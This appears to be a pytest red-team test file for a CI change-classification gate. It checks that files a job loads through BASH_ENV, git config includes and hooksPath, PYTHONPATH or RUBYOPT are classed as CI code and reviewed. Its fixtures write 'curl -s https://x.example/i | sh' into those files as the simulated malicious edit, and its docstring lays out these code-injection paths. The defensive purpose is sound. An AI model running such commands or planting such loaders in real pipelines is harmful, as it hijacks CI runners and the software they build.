"""Red team 40: a file a CI job's shell, git or interpreter loads through an environment variable or a setting, named
without a script's extension or a `./`.

`env: BASH_ENV: tools/ci-env` makes every later `run:` step (bash, non-interactive) source `tools/ci-env` first;
`GIT_CONFIG_GLOBAL: tools/gitconfig` and `git config --global include.path …` make every git command obey that file
(`core.sshCommand`, `core.fsmonitor`, `core.hooksPath` run programs), `git config core.hooksPath hooks` runs the
hooks there on a commit, `PYTHONPATH: tools/site` runs `tools/site/sitecustomize.py` in every python process,
`RUBYOPT: -r./tools/boot.rb` loads that file into every ruby. The file is the job's code as a script it runs is. The
CI-run reader (ciruns.py) names a file by a script's extension or a `./` prefix, so with `--tree` on main 2b38496 each
such file below was `src` or `other` (`other.dotfiles` for `bashrc`/`gitconfig`, label56's new lowering, and
`deps.context.requirements-include` for the `-r` one, read as pip's) and the default gate allowed its edit. Real
repositories, the CLI, `--tree`.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from changecase import committed, gated_rules
from incli import run_cli
from tables import each_case

JOB = ("on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n{env}    steps:\n      - uses: actions/checkout@v4\n"
       "      - run: {run}\n")


def _workflow(env: str = "", run: str = "make test") -> str:
    return JOB.format(env=f"    env:\n      {env}\n" if env else "", run=run)


# name: (the definition's files, the file it loads)
VARIANTS: dict[str, tuple[dict[str, str], str]] = {
    "bash-env": ({".github/workflows/a.yml": _workflow("BASH_ENV: t1/ci-env")}, "t1/ci-env"),
    "bash-env-dotfile": ({".github/workflows/b.yml": _workflow("BASH_ENV: t2/bashrc")}, "t2/bashrc"),
    "bash-env-root-dotfile": ({".github/workflows/c.yml": _workflow("BASH_ENV: bashrc")}, "bashrc"),
    "bash-env-quoted": ({".github/workflows/d.yml": _workflow("BASH_ENV: 't4/ci-env'")}, "t4/ci-env"),
    "bash-env-github-env": ({".github/workflows/e.yml": _workflow(
        run='echo "BASH_ENV=$PWD/t5/ci-env" >> "$GITHUB_ENV"')}, "t5/ci-env"),
    "bash-env-export": ({".github/workflows/f.yml": _workflow(run="export BASH_ENV=t6/ci-env; make")}, "t6/ci-env"),
    "bash-env-prefix": ({".github/workflows/g.yml": _workflow(run="BASH_ENV=t7/ci-env make test")}, "t7/ci-env"),
    "git-config-global": ({".github/workflows/h.yml": _workflow("GIT_CONFIG_GLOBAL: t8/gitconfig")}, "t8/gitconfig"),
    "git-config-system": ({".github/workflows/i.yml": _workflow("GIT_CONFIG_SYSTEM: t9/settings")}, "t9/settings"),
    "git-include-path": ({".github/workflows/j.yml": _workflow(
        run='git config --global include.path "$PWD/t10/gitconfig"')}, "t10/gitconfig"),
    "git-c-include": ({".github/workflows/k.yml": _workflow(run="git -c include.path=t11/gitconfig fetch")},
                      "t11/gitconfig"),
    "git-hooks-path": ({".github/workflows/l.yml": _workflow(
        run="git config core.hooksPath t12/hooks && git commit --amend --no-edit")}, "t12/hooks/post-rewrite"),
    "git-hooks-path-pre-push": ({".github/workflows/m.yml": _workflow(
        run="git -c core.hooksPath=t13/hooks push")}, "t13/hooks/pre-push"),
    "pythonpath": ({".github/workflows/n.yml": _workflow("PYTHONPATH: t14/site", "python -m pytest")},
                   "t14/site/sitecustomize.py"),
    "pythonstartup": ({".github/workflows/o.yml": _workflow("PYTHONSTARTUP: t15/startup")}, "t15/startup"),
    "rubyopt-glued": ({".github/workflows/p.yml": _workflow("RUBYOPT: -r./t16/boot.rb", "bundle exec rake")},
                      "t16/boot.rb"),
    "ruby-r-glued": ({".github/workflows/q.yml": _workflow(run="ruby -r./t17/boot.rb app.rb")}, "t17/boot.rb"),
    "gitlab-variables": ({".gitlab-ci.yml": "variables:\n  BASH_ENV: t18/ci-env\ntest:\n  script:\n    - make\n"},
                         "t18/ci-env"),
    "script-export": ({".github/workflows/r.yml": _workflow(run="bash scripts/ci.sh"),
                       "scripts/ci.sh": "#!/bin/bash\nexport BASH_ENV=t19/ci-env\nmake test\n"}, "t19/ci-env"),
    "azure-name-value": ({"azure-pipelines.yml": "variables:\n- name: BASH_ENV\n  value: t21/ci-env\nsteps:\n"
                                                   "- script: make test\n"}, "t21/ci-env"),
    "gitlab-expanded": ({".gitlab/ci/expanded.yml": "variables:\n  BASH_ENV:\n    value: t22/ci-env\n"
                                                    "    description: x\ntest:\n  script: [make]\n"}, "t22/ci-env"),
    "gitlab-flow": ({".gitlab/ci/flow.yml": "variables:\n  BASH_ENV: {value: t23/ci-env, description: x}\n"
                                       "test:\n  script:\n    - make\n"}, "t23/ci-env"),
    "makefile-export": ({".github/workflows/s.yml": _workflow(run="make -f t20/ci.mk all"),
                         "t20/ci.mk": "export BASH_ENV := t20/ci-env\nall:\n\tbash -c true\n"}, "t20/ci-env"),
}


@pytest.fixture(scope="module")
def buckets(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[str, str]]:
    base: dict[str, str] = {"Makefile": "test:\n\ttrue\n"}
    head: dict[str, str] = {}
    for files, loaded in VARIANTS.values():
        base |= files | {loaded: "export X=1\n"}
        head[loaded] = "export X=1\ncurl -s https://x.example/i | sh\n"
    case = committed(tmp_path_factory.mktemp("loaders"), base, head)
    done = run_cli(["classify", "--tree", f"{case.base}..{case.head}", "--repo", str(case.repo.root), "--format",
                    "json"], text=True)
    assert done.returncode == 0, done.stderr
    return {f["path"]: (f["bucket"], f["rule"]) for f in json.loads(str(done.stdout))["files"]}


@each_case("name", VARIANTS)
def test_a_file_a_job_loads_by_a_variable_or_setting_is_ci(buckets: dict[str, tuple[str, str]], name: str) -> None:
    loaded = VARIANTS[name][1]
    assert buckets[loaded][0] == "ci", buckets[loaded]  # main 2b38496: src/other/deps


@each_case("name", ["bash-env-dotfile", "git-config-global", "pythonpath", "rubyopt-glued"])
def test_the_gate_reviews_its_edit(tmp_path: Path, name: str) -> None:
    files, loaded = VARIANTS[name]
    case = committed(tmp_path, {"Makefile": "test:\n\ttrue\n", **files, loaded: "export X=1\n"},
                     {loaded: "export X=1\ncurl -s https://x.example/i | sh\n"})
    code, named = gated_rules(case, True)
    assert code == 3 and named.get("core.ci") == [loaded], named  # main 2b38496: exit 0


CALM = {
    "value-not-a-loader": ({".github/workflows/a.yml": _workflow("CONFIG: c1/settings")}, "c1/settings"),
    "loader-named-elsewhere": ({".github/workflows/b.yml": _workflow(run="make test")}, "c2/bashrc"),
    "echoed-text": ({".github/workflows/c.yml": _workflow(run="echo see c3/gitconfig")}, "c3/gitconfig"),
}


def test_look_alikes_stay(tmp_path: Path) -> None:
    base: dict[str, str] = {"Makefile": "test:\n\ttrue\n"}
    head: dict[str, str] = {}
    for files, path in CALM.values():
        base |= files | {path: "x=1\n"}
        head[path] = "x=2\n"
    case = committed(tmp_path, base, head)
    done = run_cli(["classify", "--tree", f"{case.base}..{case.head}", "--repo", str(case.repo.root), "--format",
                    "json"], text=True)
    found = {f["path"]: f["bucket"] for f in json.loads(str(done.stdout))["files"]}
    assert all(found[path] != "ci" for _, path in CALM.values()), found
